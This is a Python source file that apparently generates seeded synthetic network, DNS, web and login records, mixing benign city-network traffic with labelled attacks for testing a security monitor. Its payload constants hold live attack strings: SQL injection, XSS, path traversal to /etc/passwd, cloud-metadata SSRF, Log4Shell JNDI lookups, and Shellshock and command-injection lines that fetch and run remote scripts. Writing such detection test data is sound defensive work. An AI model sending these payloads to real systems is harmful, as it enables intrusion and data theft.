"""Attack families with randomised parameters, over a city network's benign traffic, as monitor records.

:func:`generate` builds a :class:`Scenario` for a seed: a learning period of benign traffic
(the baseline ``monitor learn`` would see) and a test period with the same benign mix plus
attacks drawn from :data:`KINDS`, each with its own random variant (rates, jitter, slowness,
number of sources, encodings, ports, time of day). Records are the normalised ones every
source yields (:mod:`security.records`: connections as Zeek would summarise them, DNS
questions, access-log requests, login events), fed to ``Monitor.feed`` directly.

The benign mix has periodic and bursty services on purpose: NTP, hourly update checks,
monitoring agents every five minutes, antivirus reputation look-ups with hex labels, night
backups, administrators' SSH and RDP sessions, a busy citizen portal with occasional
mistyped passwords and a carrier NAT address shared by many citizens.

Each injected attack is listed with its ground truth (:class:`Injected`): the attacker
entity an officer should see, the source addresses, the victim, the ATT&CK technique, the
techniques accepted as right, and start and end times. Everything is seeded.
"""

from __future__ import annotations

import base64
import random
import string
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from security.records import AuthEvent, Connection, DnsQuery, HttpRequest, Record

TZ_OFFSET_H = 7  # local time of the city (UTC+7) for office hours and nights
START = datetime(2026, 11, 23, 17, 0, tzinfo=UTC).timestamp()  # 00:00 local on a Tuesday

NET = "10.20"
WEB_SERVER = f"{NET}.0.80"
DB_SERVER = f"{NET}.0.90"
SSH_SERVER = f"{NET}.0.22"
BACKUP_SERVER = f"{NET}.0.70"
MONITORING = f"{NET}.0.50"
DNS_SERVER = f"{NET}.0.53"
NTP_SERVER = f"{NET}.0.123"
WIN_SERVER = f"{NET}.0.100"
FILE_SERVER = f"{NET}.0.45"
SERVERS = [WEB_SERVER, DB_SERVER, SSH_SERVER, BACKUP_SERVER, MONITORING, WIN_SERVER, FILE_SERVER]
SERVER_NAMES = {WEB_SERVER: "srv-web", DB_SERVER: "srv-db", SSH_SERVER: "srv-ssh", BACKUP_SERVER: "srv-backup",
                MONITORING: "srv-mon", WIN_SERVER: "srv-win", FILE_SERVER: "srv-files"}
ADMIN_HOSTS = [f"{NET}.2.5", f"{NET}.2.6"]
WORKSTATIONS = [f"{NET}.1.{i}" for i in range(10, 50)]
NEW_HOSTS = (f"{NET}.1.50", f"{NET}.1.51")  # laptops that join during the test period: no baseline of their own
UPDATE_SERVER = "42.112.30.40"
OFFSITE = "103.196.38.12"  # the city's cloud storage for off-site backup copies
MEETINGS = ["52.113.194.132", "52.114.88.20", "170.114.10.77"]  # video-conferencing servers
LOGIN_PATH = "/dang-nhap"

POPULAR = [("vnexpress.net", "111.65.250.2"), ("tuoitre.vn", "14.225.3.10"), ("dichvucong.gov.vn", "14.238.9.7"),
           ("cantho.gov.vn", "113.160.12.4"), ("thanhnien.vn", "103.97.125.20"), ("baochinhphu.vn", "14.225.19.8"),
           ("zalo.me", "120.138.69.70"), ("google.com", "142.250.66.46"), ("youtube.com", "142.250.66.78"),
           ("microsoft.com", "20.70.246.20"), ("office.com", "52.98.40.2"), ("facebook.com", "157.240.15.35"),
           ("gmail.com", "142.250.204.37"), ("github.com", "20.205.243.166"), ("cloudflare.com", "104.16.132.229"),
           ("vietcombank.com.vn", "103.11.172.20"), ("shopee.vn", "143.92.64.32"), ("tiki.vn", "103.28.36.10"),
           ("dantri.com.vn", "42.112.8.100"), ("kenh14.vn", "210.211.108.3")]
SUBS = ["www", "api", "static", "img", "m", "cdn"]
PAGES = ["/", "/tin-tuc", "/tin-tuc/ngap-ung-quan-ninh-kieu", "/thong-bao/lich-cat-dien", "/dich-vu-cong/tam-tru",
         "/dich-vu-cong/can-cuoc", "/lien-he", "/gop-y/phan-anh", "/tra-cuu/ho-so?ma=HS2026{n}",
         "/giao-thong/ket-xe", "/su-kien/le-hoi", "/static/css/main.css", "/static/js/app.js", "/images/logo.png",
         "/tim-kiem?q=hoc+phi+nam+hoc", "/tim-kiem?q=gio+mo+cua", "/van-ban/quyet-dinh-{n}",
         "/tim-kiem?q=nguyen+van+a%27s+ho+so", "/api/thoi-tiet?lat=10.03&lon=105.78"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1) Safari",
       "Mozilla/5.0 (Linux; Android 14; SM-A546E) Chrome/130.0", "Zalo/24.11 (Android)"]
CITIZEN_NETS = ["14.161.", "27.72.", "113.161.", "116.110.", "171.244.", "42.113."]
CGNAT_CITIZEN = "116.110.40.1"  # a carrier NAT address: many citizens, many accounts, a few typos
ADMINS = ["quantri", "ngoc.tran", "minh.le", "vanhanh"]
ATTACK_NETS = ["45.", "185.", "91.", "194.", "5.", "89.", "193."]
USER_POOL = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "guest", "git", "ftp", "pi", "deploy",
             "support", "backup", "www", "mysql", "nagios", "jenkins", "ansible", "administrator"]
ADMIN_PORTS = [445, 3389, 5985, 5986, 22]


@dataclass
class Injected:
    """Ground truth for one injected attack."""

    kind: str
    variant: dict[str, Any]
    attacker: str  # the entity an officer should see (a source IP, or user:<name> for distributed attacks)
    sources: list[str]  # every address the attack came from
    victim: str
    technique: str
    accepted: list[str]  # techniques counted as right for this kind
    start: float
    end: float

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


@dataclass
class Scenario:
    """A learning period, a test period with attacks, and the ground truth."""

    seed: int
    learn_start: float
    learn_end: float
    start: float
    end: float
    learn_records: list[Record]
    records: list[Record]
    injected: list[Injected]
    internal_hosts: list[str] = field(default_factory=list)


def local_hour(ts: float) -> float:
    return ((ts / 3600.0) + TZ_OFFSET_H) % 24


def _office(ts: float) -> bool:
    h = local_hour(ts)
    day = int((ts / 3600.0 + TZ_OFFSET_H) // 24) % 7  # 0 = Thursday for the epoch; weekends below
    return (8 <= h < 12 or 13 <= h < 17.5) and day not in (2, 3)


def _web_rate(ts: float) -> float:
    """Citizen visits per second on the portal: low at night, peaks at 9:00 and 20:00."""
    h = local_hour(ts)
    return 0.05 + 0.35 * max(0.0, 1 - abs(h - 9.5) / 4) + 0.25 * max(0.0, 1 - abs(h - 20.5) / 3)


class _Gen:
    """Collects records; one instance per period."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.out: list[Record] = []

    def conn(self, ts, src, dst, dport, *, proto="tcp", duration=0.5, out_b=600, in_b=2000, state="SF",
             sport=None, pkts=None) -> None:
        sport = sport or self.rng.randint(32768, 60999)
        op = pkts if pkts is not None else max(1, out_b // 1000 + 2)
        rp = 0 if state in ("S0", "REJ") else max(1, in_b // 1200 + 1)
        self.out.append(Connection(ts, src, dst, sport, dport, proto, duration, out_b, in_b, op, rp, state))

    def dns(self, ts, src, name, qtype="A", rcode="NOERROR") -> None:
        self.out.append(DnsQuery(ts, src, DNS_SERVER, name, qtype, rcode))

    def http(self, ts, src, method, target, status, size=1500, ua=None, ref="-", host="portal.cantho.gov.vn"):
        ua = ua if ua is not None else self.rng.choice(UAS)
        when = datetime.fromtimestamp(ts, UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
        raw = f'{src} - - [{when}] "{method} {target} HTTP/1.1" {status} {size} "{ref}" "{ua}"'
        self.out.append(HttpRequest(ts, src, method, target, status, size, ua, "" if ref == "-" else ref, host, raw))

    def auth(self, ts, host, service, outcome, user, src, port=None) -> None:
        port = port or self.rng.randint(40000, 60999)
        if service == "sshd":
            verb = {"failure": "Failed password for", "success": "Accepted password for",
                    "invalid_user": "Failed password for invalid user"}[outcome]
            msg = f"{verb} {user} from {src} port {port} ssh2"
        else:
            msg = f"login {'failed' if outcome != 'success' else 'ok'} user={user} ip={src}"
        self.out.append(AuthEvent(ts, host, service, outcome, user, src, port, msg))

    def long_session(self, ts, src, dst, dport, duration, out_rate=30.0, in_rate=60.0, piece=1800.0) -> None:
        """A long connection as the monitor sees it: one summary per ``piece`` seconds (active timeout)."""
        sport = self.rng.randint(32768, 60999)
        t = ts
        while t < ts + duration:
            d = min(piece, ts + duration - t)
            self.conn(t, src, dst, dport, duration=d, out_b=int(d * out_rate), in_b=int(d * in_rate), sport=sport)
            t += d


# -- benign --------------------------------------------------------------------------------
def _benign(g: _Gen, start: float, end: float, new_hosts: tuple[str, ...] = ()) -> None:
    """The benign mix; ``new_hosts`` are workstations that join the network in this period (no baseline)."""
    rng = g.rng
    weights = [1.0 / (i + 1) for i in range(len(POPULAR))]
    for host in WORKSTATIONS + ADMIN_HOSTS + list(new_hosts):
        offset = rng.uniform(0, 300)
        # monitoring agent every 300 s, NTP every 1024 s, update check hourly (+-5 %)
        t = start + offset
        while t < end:
            g.conn(t, host, MONITORING, 8086, duration=0.05, out_b=rng.randint(900, 1100), in_b=200)
            t += 300 + rng.uniform(-0.5, 0.5)
        t = start + rng.uniform(0, 1024)
        while t < end:
            g.conn(t, host, NTP_SERVER, 123, proto="udp", duration=0.01, out_b=76, in_b=76)
            t += 1024
        t = start + rng.uniform(0, 3600)
        while t < end:
            g.dns(t, host, "update.vnsoft-av.vn")
            g.conn(t + 0.05, host, UPDATE_SERVER, 443, duration=1.2, out_b=rng.randint(800, 1200),
                   in_b=rng.randint(2000, 90000))
            t += 3600 * rng.uniform(0.95, 1.05)
        # browsing in office hours, in bursts of pages
        t = start + rng.uniform(0, 600)
        while t < end:
            if not _office(t):
                t += 600
                continue
            domain, ip = rng.choices(POPULAR, weights)[0]
            for _ in range(rng.randint(1, 6)):
                g.dns(t, host, f"{rng.choice(SUBS)}.{domain}", "AAAA" if rng.random() < 0.3 else "A")
                up = rng.randint(400, 3000) if rng.random() > 0.02 else rng.randint(200_000, 8_000_000)
                g.conn(t + 0.03, host, ip, 443, duration=rng.uniform(0.1, 40), out_b=up,
                       in_b=rng.randint(5000, 600_000))
                t += rng.expovariate(1 / 4)
            # antivirus reputation look-ups: hex digests under one domain, TXT
            if rng.random() < 0.15:
                digest = "".join(rng.choice("0123456789abcdef") for _ in range(32))
                g.dns(t, host, f"{digest}.rep.vnsoft-av.vn", "TXT")
            if rng.random() < 0.05:  # a file share, sometimes
                g.conn(t, host, FILE_SERVER, 445, duration=rng.uniform(1, 120), out_b=rng.randint(2000, 300000),
                       in_b=rng.randint(2000, 3_000_000))
            t += rng.expovariate(1 / 90)
    # night backups: database and web server to the backup server, 01:00-02:30 local
    day0 = start - (local_hour(start) * 3600)
    d = day0
    while d < end:
        for src, size in ((DB_SERVER, 6e9), (WEB_SERVER, 1.5e9)):
            t = d + 3600 * 1 + rng.uniform(0, 900)
            dur = rng.uniform(2400, 5400)
            if start <= t < end:
                g.conn(t, src, BACKUP_SERVER, 873, duration=dur, out_b=int(size * rng.uniform(0.8, 1.2)),
                       in_b=200_000, pkts=int(size / 1400))
        d += 86400
    # off-site copy of the backups to a cloud store, every night (large, external, but the same place)
    d = day0
    while d < end:
        t = d + 3600 * 3 + rng.uniform(0, 1200)
        if start <= t < end:
            g.conn(t, BACKUP_SERVER, OFFSITE, 443, duration=rng.uniform(1800, 4000),
                   out_b=int(4e9 * rng.uniform(0.7, 1.3)), in_b=3_000_000, pkts=3_000_000)
        d += 86400
    # video meetings: long sessions to a few conferencing servers, a morning and an afternoon slot
    d = day0
    while d < end:
        for host in WORKSTATIONS:
            for slot in (9, 14):
                t = d + (slot - TZ_OFFSET_H) * 3600 + rng.uniform(0, 7200) + TZ_OFFSET_H * 3600
                if start <= t < end and _office(t) and rng.random() < 0.4:
                    g.long_session(t, host, rng.choice(MEETINGS), rng.choice([443, 3478]), rng.uniform(1200, 9000),
                                   out_rate=rng.uniform(2e4, 8e4), in_rate=rng.uniform(5e4, 2e5))
        d += 86400
    # servers: NTP and monitoring too
    for host in SERVERS:
        t = start + rng.uniform(0, 300)
        while t < end:
            g.conn(t, host, MONITORING, 8086, duration=0.05, out_b=rng.randint(900, 1100), in_b=200)
            t += 300 + rng.uniform(-0.5, 0.5)
    # administrators: SSH sessions to the servers, RDP to the Windows server, in office hours
    for admin, user in zip(ADMIN_HOSTS, ADMINS, strict=False):
        t = start + rng.uniform(0, 1800)
        while t < end:
            if not _office(t):
                t += 900
                continue
            dst = rng.choice(SERVERS)
            port = 3389 if dst == WIN_SERVER else 22
            if port == 22:
                if rng.random() < 0.15:
                    g.auth(t, SERVER_NAMES[dst], "sshd", "failure", user, admin)
                    t += rng.uniform(3, 12)
                g.auth(t, SERVER_NAMES[dst], "sshd", "success", user, admin)
            dur = rng.uniform(120, 3 * 3600)
            g.long_session(t, admin, dst, port, dur, out_rate=rng.uniform(5, 50), in_rate=rng.uniform(50, 500))
            t += dur + rng.expovariate(1 / 1800)
    # the busy portal: citizens browse, some log in (a few typos), a carrier NAT address
    t = start
    n = 0
    while t < end:
        t += rng.expovariate(_web_rate(t))
        n += 1
        src = CGNAT_CITIZEN if rng.random() < 0.03 else \
            f"{rng.choice(CITIZEN_NETS)}{rng.randint(1, 254)}.{rng.randint(1, 254)}"
        ua = rng.choice(UAS)
        tt = t
        for _ in range(rng.randint(1, 8)):
            page = rng.choice(PAGES).format(n=rng.randint(100, 999))
            status = 200 if rng.random() > 0.04 else rng.choice([304, 404])
            g.http(tt, src, "GET", page, status, rng.randint(400, 40000), ua, "https://portal.cantho.gov.vn/")
            tt += rng.expovariate(1 / 15)
        if rng.random() < 0.08:
            user = f"cd{rng.randint(100000, 999999)}"
            for _ in range(rng.choice([0, 0, 0, 1, 1, 2])):
                g.http(tt, src, "POST", LOGIN_PATH, 401, 320, ua)
                g.auth(tt, "srv-web", "portal", "failure", user, src)
                tt += rng.uniform(5, 30)
            g.http(tt, src, "POST", LOGIN_PATH, 302, 120, ua)
            g.auth(tt, "srv-web", "portal", "success", user, src)


# -- attacks -------------------------------------------------------------------------------
def _ext_ip(rng: random.Random) -> str:
    return f"{rng.choice(ATTACK_NETS)}{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"


def _rand_domain(rng: random.Random) -> str:
    word = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(5, 9)))
    return f"{word}-{rng.choice(['cdn', 'sync', 'api', 'cloud', 'stat'])}.{rng.choice(['com', 'net', 'xyz', 'io'])}"


def _beacon(g, rng, t0, ctx):
    src = ctx["internal"]()
    dst = _ext_ip(rng)
    period = rng.choice([30, 60, 120, 300, 600, 900, 1800])
    jitter = rng.choice([0.0, 0.2, 0.35, 0.5])
    miss = rng.choice([0.0, 0.1, 0.2])
    per_beat = rng.choice([1, 1, 2, 3])
    port = rng.choice([443, 8443, 80, 8080, 4444, 53, rng.randint(1025, 65000)])
    hours = rng.uniform(3, 8)
    n = int(hours * 3600 / period)
    for i in range(n):
        if rng.random() < miss:
            continue
        t = t0 + i * period + rng.uniform(-jitter, jitter) * period
        for k in range(per_beat):
            g.conn(t + k * rng.uniform(0.2, 3), src, dst, port, duration=rng.uniform(0.1, 1.5),
                   out_b=rng.randint(300, 420), in_b=rng.randint(150, 600))
    tech = "T1071.001" if port in (80, 443, 8080, 8443) else "T1071"
    return Injected("beacon", {"period_s": period, "jitter": jitter, "missed": miss, "sessions_per_beat": per_beat,
                               "port": port, "hours": round(hours, 1)}, src, [src], dst, tech,
                    ["T1071", "T1071.001"], t0, t0 + n * period)


def _long_connection(g, rng, t0, ctx):
    src = ctx["internal"]()
    dst = _ext_ip(rng)
    port = rng.choice([443, 22, 8080, 1194, rng.randint(1025, 65000)])
    dur = rng.uniform(3, 9) * 3600
    g.dns(t0 - 0.1, src, _rand_domain(rng))
    g.long_session(t0, src, dst, port, dur, out_rate=rng.uniform(2, 40), in_rate=rng.uniform(2, 80))
    return Injected("long_connection", {"port": port, "hours": round(dur / 3600, 1)}, src, [src], dst, "T1071",
                    ["T1071", "T1071.001", "T1572"], t0, t0 + dur)


def _slow_vertical_scan(g, rng, t0, ctx):
    internal = rng.random() < 0.4
    src = ctx["internal"]() if internal else _ext_ip(rng)
    dst = rng.choice(SERVERS)
    gap = rng.choice([20, 30, 60, 90, 120])
    n = rng.randint(40, 250)
    filtered = rng.random() < 0.5
    ports = rng.sample(range(1, 10000), n)
    t = t0
    for p in ports:
        open_ = p in (22, 80, 443, 445, 3389)
        g.conn(t, src, dst, p, duration=0.0 if not open_ else 0.01, out_b=60, in_b=0 if not open_ else 60,
               state="SF" if open_ else ("S0" if filtered else "REJ"))
        t += gap * rng.uniform(0.6, 1.4)
    return Injected("slow_vertical_scan", {"gap_s": gap, "ports": n, "filtered": filtered, "internal": internal},
                    src, [src], dst, "T1046", ["T1046"], t0, t)


def _slow_horizontal_sweep(g, rng, t0, ctx):
    internal = rng.random() < 0.5
    src = ctx["internal"]() if internal else _ext_ip(rng)
    port = rng.choice([445, 22, 3389, 80, 5985, 23, 161])
    gap = rng.choice([15, 30, 60, 120])
    n = rng.randint(30, 200)
    subnet = rng.choice(["1", "0", "3"])
    hosts = rng.sample(range(1, 255), min(n, 254))
    t = t0
    live = set(WORKSTATIONS + SERVERS + ADMIN_HOSTS)
    for h in hosts:
        dst = f"{NET}.{subnet}.{h}"
        state = ("REJ" if rng.random() < 0.7 else "SF") if dst in live else "S0"
        g.conn(t, src, dst, port, proto="udp" if port == 161 else "tcp", duration=0.0, out_b=60,
               in_b=0 if state != "SF" else 60, state=state)
        t += gap * rng.uniform(0.5, 1.5)
    return Injected("slow_horizontal_sweep", {"port": port, "gap_s": gap, "hosts": len(hosts), "internal": internal},
                    src, [src], f"{NET}.{subnet}.0/24", "T1046", ["T1046"], t0, t)


def _fast_scan(g, rng, t0, ctx):
    src = _ext_ip(rng)
    vertical = rng.random() < 0.6
    t = t0
    if vertical:
        dst = rng.choice(SERVERS)
        for p in rng.sample(range(1, 65535), rng.randint(200, 1000)):
            g.conn(t, src, dst, p, duration=0.0, out_b=60, in_b=0, state=rng.choice(["S0", "REJ"]))
            t += rng.uniform(0.01, 0.2)
        victim = dst
    else:
        port = rng.choice([22, 445, 3389, 80])
        for h in range(1, 255):
            g.conn(t, src, f"{NET}.1.{h}", port, duration=0.0, out_b=60, in_b=0, state="S0")
            t += rng.uniform(0.01, 0.3)
        victim = f"{NET}.1.0/24"
    return Injected("fast_scan", {"vertical": vertical}, src, [src], victim, "T1046", ["T1046"], t0, t)


def _ssh_attempts(g, rng, t0, src, users, n, gap, dst=SSH_SERVER, success_user=None):
    t = t0
    host = SERVER_NAMES[dst]
    for i in range(n):
        user = users[i % len(users)]
        outcome = "failure" if user in ("root", *ADMINS) or rng.random() < 0.5 else "invalid_user"
        g.auth(t, host, "sshd", outcome, user, src)
        g.conn(t - 0.5, src, dst, 22, duration=rng.uniform(1, 4), out_b=1500, in_b=2500)
        t += gap * rng.uniform(0.5, 1.5)
    if success_user:
        g.auth(t, host, "sshd", "success", success_user, src)
        g.long_session(t - 0.5, src, dst, 22, rng.uniform(300, 3000), out_rate=20, in_rate=200)
    return t


def _ssh_brute_force(g, rng, t0, ctx):
    src = _ext_ip(rng)
    slow = rng.random() < 0.5
    gap = rng.choice([60, 120, 240]) if slow else rng.uniform(1, 4)
    n = rng.randint(30, 90)
    users = ["root"] if rng.random() < 0.6 else ["root", "admin"]
    end = _ssh_attempts(g, rng, t0, src, users, n, gap)
    return Injected("ssh_brute_force", {"slow": slow, "gap_s": round(gap, 1), "attempts": n, "users": users}, src,
                    [src], SSH_SERVER, "T1110.001", ["T1110.001"], t0, end)


def _password_spraying(g, rng, t0, ctx):
    src = _ext_ip(rng)
    users = rng.sample(USER_POOL, rng.randint(10, 20))
    gap = rng.choice([20, 60, 180])
    end = _ssh_attempts(g, rng, t0, src, users, len(users) * rng.randint(1, 2), gap)
    return Injected("password_spraying", {"users": len(users), "gap_s": gap}, src, [src], SSH_SERVER, "T1110.003",
                    ["T1110.003"], t0, end)


def _distributed_brute_force(g, rng, t0, ctx):
    account = rng.choice(["root", "admin", "quantri"])
    sources = [_ext_ip(rng) for _ in range(rng.randint(10, 50))]
    attempts = rng.randint(1, 4)
    span = rng.uniform(1, 6) * 3600
    times = []
    for src in sources:
        for _ in range(attempts):
            times.append((t0 + rng.uniform(0, span), src))
    host = SERVER_NAMES[SSH_SERVER]
    for t, src in sorted(times):
        g.auth(t, host, "sshd", "failure", account, src)
        g.conn(t - 0.5, src, SSH_SERVER, 22, duration=2.0, out_b=1500, in_b=2500)
    return Injected("distributed_brute_force", {"sources": len(sources), "attempts_each": attempts,
                                                "hours": round(span / 3600, 1), "account": account},
                    f"user:{account}", sources, SSH_SERVER, "T1110.001", ["T1110.001", "T1110.003"], t0, t0 + span)


def _credential_stuffing(g, rng, t0, ctx):
    src = _ext_ip(rng)
    n = rng.randint(25, 200)
    gap = rng.choice([0.5, 2, 10, 60])
    ua = rng.choice(UAS + ["python-requests/2.32", "Go-http-client/1.1"])
    status = rng.choice([401, 403])
    t = t0
    hits = []
    for _ in range(n):
        user = f"{rng.choice(['cd', 'nguyen', 'tran', 'le', 'user'])}{rng.randint(1000, 999999)}"
        hit = rng.random() < 0.02
        if hit:
            hits.append(user)
        g.http(t, src, "POST", LOGIN_PATH, 302 if hit else status, 320, ua)
        g.auth(t, "srv-web", "portal", "success" if hit else "failure", user, src)
        t += gap * rng.uniform(0.5, 1.5)
    return Injected("credential_stuffing", {"attempts": n, "gap_s": gap, "status": status, "compromised": hits},
                    src, [src],
                    WEB_SERVER, "T1110.004", ["T1110.004"], t0, t)


def _success_after_failures(g, rng, t0, ctx):
    src = _ext_ip(rng)
    user = rng.choice(["root", "quantri", "deploy"])
    n = rng.randint(10, 40)
    gap = rng.choice([2, 30, 120])
    end = _ssh_attempts(g, rng, t0, src, [user], n, gap, success_user=user)
    return Injected("success_after_failures", {"failures": n, "gap_s": gap, "user": user}, src, [src], SSH_SERVER,
                    "T1078", ["T1078"], t0, end)


def _exfiltration(g, rng, t0, ctx):
    src = ctx["internal"]() if rng.random() < 0.7 else DB_SERVER
    dst = _ext_ip(rng)
    night = rng.random() < 0.5
    if night:  # move the start into 00:30-04:00 local, the same day or the next
        cand = t0 - local_hour(t0) * 3600 + rng.uniform(0.5, 4) * 3600
        if cand < ctx["start"] + 3600:
            cand += 86400
        if cand + 3 * 3600 < ctx["end"]:
            t0 = cand
        else:
            night = False
    total = rng.choice([3e8, 8e8, 2e9, 5e9]) if src == DB_SERVER else rng.choice([1.5e8, 3e8, 8e8, 2e9])
    parts = rng.randint(1, 6)
    port = rng.choice([443, 22, 21, 8443, rng.randint(1025, 65000)])
    span = rng.uniform(0.3, 2.5) * 3600
    for i in range(parts):
        t = t0 + i * span / parts
        g.conn(t, src, dst, port, duration=span / parts * 0.8, out_b=int(total / parts), in_b=int(total / parts / 200),
               pkts=int(total / parts / 1400))
    return Injected("exfiltration", {"bytes": int(total), "parts": parts, "port": port, "night": night,
                                     "hours": round(span / 3600, 1)}, src, [src], dst, "T1048", ["T1048", "T1041"],
                    t0, t0 + span)


def _lateral_movement(g, rng, t0, ctx):
    src = ctx["internal"]()
    port = rng.choice(ADMIN_PORTS)
    n = rng.randint(3, 15)
    targets = rng.sample([h for h in WORKSTATIONS + SERVERS if h != src], n)
    gap = rng.choice([10, 120, 900])
    t = t0
    for dst in targets:
        g.conn(t, src, dst, port, duration=rng.uniform(2, 120), out_b=rng.randint(3000, 80000),
               in_b=rng.randint(3000, 80000))
        if port == 22:
            g.auth(t, SERVER_NAMES.get(dst, dst), "sshd", "success", rng.choice(["root", "quantri"]), src)
        t += gap * rng.uniform(0.5, 1.5)
    sub = {445: "T1021.002", 3389: "T1021.001", 5985: "T1021.006", 5986: "T1021.006", 22: "T1021.004"}[port]
    return Injected("lateral_movement", {"port": port, "targets": n, "gap_s": gap}, src, [src], ",".join(targets[:3]),
                    sub, ["T1021", "T1021.001", "T1021.002", "T1021.004", "T1021.006"], t0, t)


def _encode_payload(rng: random.Random, data: bytes, how: str) -> str:
    if how == "base32":
        return base64.b32encode(data).decode().rstrip("=").lower()
    if how == "base64":
        return base64.b64encode(data).decode().rstrip("=").replace("+", "-").replace("/", "_")
    return data.hex()


def _dns_tunnel(g, rng, t0, ctx):
    src = ctx["internal"]()
    domain = _rand_domain(rng)
    how = rng.choice(["base32", "base64", "hex"])
    qtype = rng.choice(["TXT", "NULL", "CNAME", "A", "AAAA"])
    size = rng.choice([10, 16, 24, 36])
    n = rng.randint(80, 1500)
    gap = rng.choice([0.5, 2, 10, 30])
    t = t0
    for i in range(n):
        label = _encode_payload(rng, rng.randbytes(size), how)[:63]
        g.dns(t, src, f"{label}.{i % 4096:x}.{domain}", qtype)
        t += gap * rng.uniform(0.3, 1.7)
    return Injected("dns_tunnel", {"encoding": how, "qtype": qtype, "bytes_per_query": size, "queries": n,
                                   "gap_s": gap}, src, [src], domain, "T1071.004", ["T1071.004"], t0, t)


WEB_PAYLOADS = {
    "sql_injection": ["' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1 AND SLEEP(5)",
                      "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1;WAITFOR DELAY '0:0:5'--",
                      "1 UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables"],
    "xss": ["<script>alert(document.cookie)</script>", "\"><svg onload=alert(1)>", "<img src=x onerror=alert(1)>",
            "javascript:alert(1)", "<iframe src=//evil.example>"],
    "path_traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow",
                       "/proc/self/environ"],
    "command_injection": [";cat /etc/passwd", "|id", "`whoami`", "$(uname -a)", "&& wget http://x/s.sh"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/iam/", "http://metadata.google.internal/computeMetadata/v1/",
             "http://[::ffff:169.254.169.254]/", "http://100.100.100.200/latest/meta-data/"],
}
LOG4SHELL = ["${jndi:ldap://{h}/a}", "${${lower:j}ndi:${lower:l}dap://{h}/x}", "${jndi:${lower:r}mi://{h}/o}",
             "${${::-j}${::-n}${::-d}${::-i}:dns://{h}/z}"]
SHELLSHOCK = "() { :; }; /bin/bash -c 'curl http://{h}/x|sh'"


def _encode_web(rng: random.Random, text: str, how: str) -> str:
    """``text`` encoded one way; spaces always end up encoded (a request target has none)."""
    from urllib.parse import quote

    if how in ("html", "unicode", "unicode_backslash"):
        text = text.replace(" ", "%20")
    if how == "url":
        return quote(text, safe="")
    if how == "double_url":
        return quote(quote(text, safe=""), safe="")
    if how == "html":
        return "".join(f"&#{ord(c)};" if c in "<>'\"()/.;" else c for c in text)
    if how == "unicode":
        return "".join(f"%u{ord(c):04x}" if c in "<>'\"/.;" else c for c in text)
    if how == "unicode_backslash":
        return "".join(f"\\u{ord(c):04x}" if c in "<>'\"/.;" else c for c in text)
    if how == "case":
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text).replace(" ", "%20")
    return text.replace(" ", "%20")


def _web_exploit(g, rng, t0, ctx):
    src = _ext_ip(rng)
    kind = rng.choice(list(WEB_PAYLOADS) + ["log4shell", "shellshock"])
    how = rng.choice(["plain", "url", "double_url", "html", "unicode", "unicode_backslash", "case"])
    n = rng.randint(1, 12)
    gap = rng.choice([1, 5, 600])
    t = t0
    ua = rng.choice(UAS)
    for _ in range(n):
        ref = "-"
        if kind == "log4shell":
            payload = rng.choice(LOG4SHELL).replace("{h}", f"{_ext_ip(rng)}:1389")
            where = rng.choice(["ua", "ref", "target"])
            target = "/" if where != "target" else f"/tim-kiem?q={_encode_web(rng, payload, how)}"
            agent = payload if where == "ua" else ua
            ref = payload if where == "ref" else "-"
        elif kind == "shellshock":
            agent = SHELLSHOCK.replace("{h}", _ext_ip(rng))
            target = rng.choice(["/cgi-bin/status", "/cgi-bin/test.cgi", "/"])
        else:
            payload = rng.choice(WEB_PAYLOADS[kind])
            param = {"ssrf": "/api/preview?url=", "path_traversal": "/download?file="}.get(kind, "/tra-cuu/ho-so?ma=")
            target = param + _encode_web(rng, payload, how)
            agent = ua
        g.http(t, src, "GET", target, rng.choice([200, 400, 403, 404, 500]), 312, agent, ref)
        g.http(t + 1, src, "GET", "/", 200, 15320, ua)
        t += gap * rng.uniform(0.5, 1.5)
    return Injected("web_exploit", {"payload": kind, "encoding": how, "requests": n, "gap_s": gap}, src, [src],
                    WEB_SERVER, "T1190", ["T1190"], t0, t)


def _web_shell(g, rng, t0, ctx):
    src = _ext_ip(rng)
    name = rng.choice(["shell.php", "cmd.jsp", "up.aspx", "x.php", "wso.php", "b374k.php", "1.phtml"])
    folder = rng.choice(["/uploads/", "/images/", "/static/files/", "/wp-content/uploads/2026/11/"])
    param = rng.choice(["cmd", "c", "exec", "q"])
    n = rng.randint(3, 20)
    t = t0
    for _ in range(n):
        cmd = rng.choice(["whoami", "id", "uname -a", "ls -la /var/www", "cat /etc/passwd", "ps aux"])
        how = rng.choice(["url", "plain", "double_url"])
        if rng.random() < 0.5:
            g.http(t, src, "GET", f"{folder}{name}?{param}={_encode_web(rng, cmd, how)}", 200, rng.randint(80, 5000),
                   "Mozilla/5.0")
        else:
            g.http(t, src, "POST", f"{folder}{name}", 200, rng.randint(80, 5000), "Mozilla/5.0")
        t += rng.choice([3, 20, 120]) * rng.uniform(0.5, 1.5)
    return Injected("web_shell", {"path": folder + name, "requests": n}, src, [src], WEB_SERVER, "T1505.003",
                    ["T1505.003", "T1190"], t0, t)


KINDS = {
    "beacon": _beacon, "long_connection": _long_connection, "slow_vertical_scan": _slow_vertical_scan,
    "slow_horizontal_sweep": _slow_horizontal_sweep, "fast_scan": _fast_scan, "ssh_brute_force": _ssh_brute_force,
    "password_spraying": _password_spraying, "distributed_brute_force": _distributed_brute_force,
    "credential_stuffing": _credential_stuffing, "success_after_failures": _success_after_failures,
    "exfiltration": _exfiltration, "lateral_movement": _lateral_movement, "dns_tunnel": _dns_tunnel,
    "web_exploit": _web_exploit, "web_shell": _web_shell,
}
# longest span an attack of each kind may take, so it ends inside the test period
_SPAN_H = {"beacon": 8.5, "long_connection": 9.5, "slow_vertical_scan": 10, "slow_horizontal_sweep": 8.5,
